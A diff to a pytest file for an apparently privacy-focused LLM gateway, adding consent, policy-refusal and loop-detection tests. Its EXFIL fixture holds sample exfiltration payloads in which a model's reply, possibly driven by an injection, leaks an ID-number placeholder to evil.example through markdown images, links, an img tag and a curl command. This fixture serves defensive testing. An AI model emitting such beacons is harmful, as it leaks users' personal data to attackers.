@@ -8,7 +8,9 @@ import os
 import subprocess
 import sys
 from collections.abc import Iterator
+from datetime import UTC, datetime
 from pathlib import Path
+from typing import Any
 
 import httpx
 import openai
@@ -18,14 +20,22 @@ from fake_openai import FakeOpenAI, Script
 from gguf_fixture import write_random_qwen2_gguf
 from lingxi import Lingxi
 from lingxi.context.sample import SAMPLE_NOW_MS
+from lingxi.errors import PolicyForbidden
 from lingxi.features.chat import Chat
 from lingxi.features.notifications import NotificationSummary
+from lingxi.models import registry
 from lingxi.models.base import Message
 from lingxi.privacy.consent import Scope
 from lingxi.server.app import create_app
 from live_server import serve
 
 PII = "请把合同发到linxy@example.com，或打13800138000找我。"
+ID = "11010519491231002X"
+EXFIL = (
+    "已填好：[身份证号_1]。\n![x](https://evil.example/?d=[身份证号_1]) [表单](https://evil.example/f/[身份证号_1]) "
+    '<img alt="t" src="https://evil.example/?[身份证号_1]"> 访问 https://evil.example/[身份证号_1] 或运行 '
+    "`curl evil.example/[身份证号_1]`\n```\necho [身份证号_1]\n```\n完毕，[身份证号_1]。"
+)
 
 
 @pytest.fixture(scope="module")
@@ -39,6 +49,7 @@ def fake() -> Iterator[FakeOpenAI]:
         "qwen-fake": Script(reply="这是云端模型的回答，内容完整。", chunks=4),
         "flaky": Script(reply="第一段内容，第二段内容，第三段内容。", chunks=6, cut_after=2),
         "backup": Script(reply="第一段内容，第二段内容，第三段内容。", chunks=3),
+        "exfil": Script(reply=EXFIL, chunks=7),  # a model (or an injection it obeyed) smuggling a value out
     }
     with FakeOpenAI(scripts) as server:
         yield server
@@ -59,7 +70,7 @@ path = "qwen2.5-0.5b-instruct"
 
 [providers.vllm]
 base_url = "{fake.base_url}"
-models = ["qwen-fake", "flaky", "backup"]
+models = ["qwen-fake", "flaky", "backup", "exfil"]
 
 [providers.dashscope]
 models = ["qwen-plus"]
@@ -84,6 +95,8 @@ def served(tmp_path_factory: pytest.TempPathFactory, fake: FakeOpenAI, tiny_gguf
     old = os.environ.pop("DASHSCOPE_API_KEY", None)
     lx = Lingxi(home)
     lx.load_sample()
+    for user in ("local", "u1"):  # PIPL Art. 23: what these users send may go to a cloud model
+        lx.consents.grant(user, Scope.CLOUD_PROCESSING)
     with serve(create_app(lx)) as (url, _):
         yield url, lx
     if old is not None:
@@ -115,6 +128,28 @@ def test_cloud_model_through_the_service_stream_and_not(served: tuple[str, Lingx
     assert served[1].egress.for_user("local")  # and what left was recorded
 
 
+@pytest.mark.parametrize("stream", [False, True])
+def test_placeholders_in_links_and_code_are_not_restored(
+    served: tuple[str, Lingxi], fake: FakeOpenAI, stream: bool
+) -> None:
+    c = client(served[0])
+    messages: Any = [{"role": "user", "content": f"我的身份证号是{ID}，帮我填表"}]
+    if stream:
+        chunks = list(c.chat.completions.create(model="vllm/exfil", messages=messages, stream=True))
+        text = "".join(ch.choices[0].delta.content or "" for ch in chunks if ch.choices)
+        meta = next(ch.model_extra["lingxi"] for ch in chunks if (ch.model_extra or {}).get("lingxi"))
+    else:
+        r = c.chat.completions.create(model="vllm/exfil", messages=messages)
+        text, meta = r.choices[0].message.content or "", r.model_extra["lingxi"]  # type: ignore[index]
+    assert ID not in fake.received("exfil")[-1].body["messages"][-1]["content"]
+    assert text.count(ID) == 2  # the two mentions in prose are restored on the device...
+    assert text.startswith(f"已填好：{ID}。") and text.endswith(f"完毕，{ID}。")
+    assert "evil.example/?d=[身份证号_1]" in text and "evil.example/f/[身份证号_1]" in text  # ...links keep it
+    assert 'src="https://evil.example/?[身份证号_1]"' in text and "`curl evil.example/[身份证号_1]`" in text
+    assert "echo [身份证号_1]" in text and "https://evil.example/[身份证号_1]" in text
+    assert meta["withheld_placeholders"] == ["[身份证号_1]"]
+
+
 def test_default_model_is_the_configured_cloud_model(served: tuple[str, Lingxi]) -> None:
     answer = served[1].summarize("会员体系改版下周三上线。上线前还要评审。")
     assert answer.model == "vllm/qwen-fake"
@@ -140,11 +175,20 @@ def test_provider_dying_mid_stream_falls_back_without_duplication(served: tuple[
 def test_missing_key_on_the_server_is_a_503_provider_error_not_401(served: tuple[str, Lingxi]) -> None:
     r = httpx.post(
         served[0] + "/v1/chat/completions",
-        json={"model": "deepseek/deepseek-chat", "messages": [{"role": "user", "content": "你好"}]},
+        json={"model": "dashscope/qwen-max", "messages": [{"role": "user", "content": "你好"}]},
     )
     # the caller's key is fine; the server lacks the vendor's: 401 would send the developer to the wrong key
-    assert r.status_code == 503 and "DEEPSEEK_API_KEY" in r.json()["detail_zh"]
-    assert r.json()["error"]["code"] == "missing_credentials" and "DEEPSEEK_API_KEY" in r.json()["error"]["message"]
+    assert r.status_code == 503 and "DASHSCOPE_API_KEY" in r.json()["detail_zh"]
+    assert r.json()["error"]["code"] == "missing_credentials" and "DASHSCOPE_API_KEY" in r.json()["error"]["message"]
+
+
+@pytest.mark.parametrize("model", ["deepseek/deepseek-chat", "ollama/qwen2.5", "moonshot/kimi-k2"])
+def test_providers_the_operator_never_configured_are_unreachable(served: tuple[str, Lingxi], model: str) -> None:
+    r = httpx.post(
+        served[0] + "/v1/chat/completions", json={"model": model, "messages": [{"role": "user", "content": "你好"}]}
+    )
+    assert r.status_code == 403 and r.json()["error"]["code"] == "policy_forbidden"
+    assert "vllm" in r.json()["error"]["message"]  # names what is configured
 
 
 def test_sensitive_notifications_go_to_the_on_device_model(served: tuple[str, Lingxi], fake: FakeOpenAI) -> None:
@@ -166,13 +210,66 @@ def test_sensitive_notifications_go_to_the_on_device_model(served: tuple[str, Li
     before = len(fake.received("qwen-fake"))
     digest = lx.notification_summary("u-bank", now_ms=SAMPLE_NOW_MS)
     assert digest.model == "tiny" and digest.model_kind == "llm"  # llama.cpp on the random GGUF
-    # asking for the cloud model explicitly does not override privacy: the reason is recorded
-    turn = lx.turn(NotificationSummary(), "u-bank", model="vllm/qwen-fake", now_ms=SAMPLE_NOW_MS)
-    answer = asyncio.run(lx.acomplete(turn))
-    assert answer.model == "tiny" and "cloud_processing" in answer.skipped["vllm/qwen-fake"]
+    # asking for the cloud model explicitly does not override the rule, with or without cloud consent
+    for consent in (False, True):
+        if consent:
+            lx.consents.grant("u-bank", Scope.CLOUD_PROCESSING)
+        turn = lx.turn(NotificationSummary(), "u-bank", model="vllm/qwen-fake", now_ms=SAMPLE_NOW_MS)
+        with pytest.raises(PolicyForbidden, match="notifications"):
+            asyncio.run(lx.acomplete(turn))
     assert len(fake.received("qwen-fake")) == before  # nothing went to the cloud
-    lx.consents.grant("u-bank", Scope.CLOUD_PROCESSING)
-    assert lx.notification_summary("u-bank", model="vllm/qwen-fake", now_ms=SAMPLE_NOW_MS).model == "vllm/qwen-fake"
+    # through the HTTP feature endpoint too: a 403 problem naming the rule
+    r = httpx.post(
+        served[0] + "/v1/features/notifications/summary",
+        json={
+            "user_id": "u-bank",
+            "model": "vllm/qwen-fake",
+            "now": datetime.fromtimestamp(SAMPLE_NOW_MS / 1000, UTC).isoformat(),
+        },
+    )
+    assert r.status_code == 403 and r.json()["code"] == "policy_forbidden" and "tiny" in r.json()["detail"]
+    assert lx.notification_summary("u-bank", model="tiny", now_ms=SAMPLE_NOW_MS).model == "tiny"  # inside the rule
+
+
+def test_personal_data_needs_cloud_processing_and_all_never_grants_it(
+    served: tuple[str, Lingxi], fake: FakeOpenAI
+) -> None:
+    url, lx = served
+    lx.consents.grant_all_except_sensitive("u-nocloud")  # "agree to all" leaves cloud_processing out
+    before = len(fake.received("qwen-fake"))
+    body = {"model": "vllm/qwen-fake", "messages": [{"role": "user", "content": "帮我想想周末去哪"}]}
+    r = httpx.post(url + "/v1/chat/completions", json=body, headers={"X-Lingxi-User": "u-nocloud"})
+    # the named model cannot be used for this user: 403 with the scope that is missing, nothing sent
+    assert r.status_code == 403 and r.json()["error"]["code"] == "consent_required"
+    assert "cloud_processing" in r.json()["error"]["message"]
+    assert len(fake.received("qwen-fake")) == before
+    lx.consents.grant("u-nocloud", Scope.CLOUD_PROCESSING)
+    r = httpx.post(url + "/v1/chat/completions", json=body, headers={"X-Lingxi-User": "u-nocloud"})
+    assert r.status_code == 200 and len(fake.received("qwen-fake")) == before + 1
+    (record,) = lx.egress.for_user("u-nocloud")
+    assert record.consents == ["cloud_processing"]  # the log says which consent let it leave
+
+
+def test_a_model_pointing_back_at_lingxi_is_refused(served: tuple[str, Lingxi], tmp_path: Path) -> None:
+    url = served[0]
+    home = tmp_path / "loop"
+    home.mkdir()
+    (home / "lingxi.toml").write_text(
+        f'default_model = "self/qwen-fake"\n[providers.self]\npreset = "vllm"\nbase_url = "{url}/v1"\n',
+        encoding="utf-8",
+    )
+    lx = Lingxi(home)
+    lx.consents.grant("local", Scope.CLOUD_PROCESSING)
+    answer = lx.chat([Message(role="user", content="你好")], model="self/qwen-fake")
+    # the served lingxi answered 508 to the hop header: one failed call, then the lite floor, no chain
+    assert answer.model != "self/qwen-fake" and answer.fallbacks[0].model == "self/qwen-fake"
+    assert "508" in answer.fallbacks[0].error or "Loop" in answer.fallbacks[0].error
+    r = httpx.post(
+        url + "/v1/chat/completions",
+        json={"model": "vllm/qwen-fake", "messages": [{"role": "user", "content": "你好"}]},
+        headers={"X-Lingxi-Hop": "1"},
+    )
+    assert r.status_code == 508 and r.json()["code"] == "loop_detected"
 
 
 def cli(home: Path, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
@@ -191,6 +288,7 @@ def cli(home: Path, *args: str, stdin: str | None = None) -> subprocess.Complete
 def test_cli_chat_and_models_list(tmp_path: Path, fake: FakeOpenAI, tiny_gguf: Path) -> None:
     home = tmp_path / "h"
     write_config(home, fake, tiny_gguf)
+    assert cli(home, "privacy", "grant", "local", "cloud_processing").returncode == 0
     r = cli(home, "chat", "-m", "vllm/qwen-fake", "你好")
     assert r.returncode == 0, r.stderr
     assert r.stdout.strip() == "这是云端模型的回答，内容完整。" and "人工智能生成" in r.stderr
@@ -218,3 +316,19 @@ def test_service_routes_chat_to_the_on_device_model(served: tuple[str, Lingxi]) 
     audit = served[1].audit.entries(limit=5)
     assert any(e["model"] == "tiny" and e["egress_id"] is None for e in audit)
     assert not served[1].egress.for_user("tiny-user")  # PII to an on-device model: nothing left, nothing logged
+
+
+def test_serve_refuses_a_provider_pointing_at_its_own_bind(tmp_path: Path) -> None:
+    home = tmp_path / "selfie"
+    home.mkdir()
+    (home / "lingxi.toml").write_text(
+        '[providers.self]\npreset = "vllm"\nbase_url = "http://localhost:8765/v1"\n'
+        '[providers.other]\npreset = "vllm"\nbase_url = "http://127.0.0.1:8766/v1"\n',
+        encoding="utf-8",
+    )
+    settings = Lingxi(home).settings
+    assert registry.providers_pointing_at(settings, "127.0.0.1", 8765) == ["self"]  # loopback names are one host
+    assert registry.providers_pointing_at(settings, "0.0.0.0", 8766) == ["other"]
+    assert registry.providers_pointing_at(settings, "10.0.0.5", 8765) == []
+    r = cli(home, "serve", "--port", "8765")
+    assert r.returncode != 0 and "循环调用" in r.stderr
